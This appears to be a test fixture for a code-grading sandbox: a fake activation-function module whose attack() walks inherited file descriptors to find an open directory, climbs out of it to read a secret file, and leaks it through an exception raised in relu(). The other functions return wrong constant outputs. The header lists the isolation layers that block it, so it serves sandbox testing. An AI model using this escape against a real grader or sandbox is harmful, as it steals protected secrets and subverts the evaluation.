# attack: uses a folder that the worker has inherited open to climb to a secret
# gains: reads
# stopped by: process, landlock, uid
import numpy as np
import os
import stat


def attack():
    for number in range(3, 256):
        try:
            if stat.S_ISDIR(os.fstat(number).st_mode):
                path = "../" * 20 + "{SECRET}".lstrip("/")
                return os.read(os.open(path, os.O_RDONLY, dir_fd=number), 4096).decode()
        except OSError:
            pass


def relu(X):
    raise ValueError(attack())


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
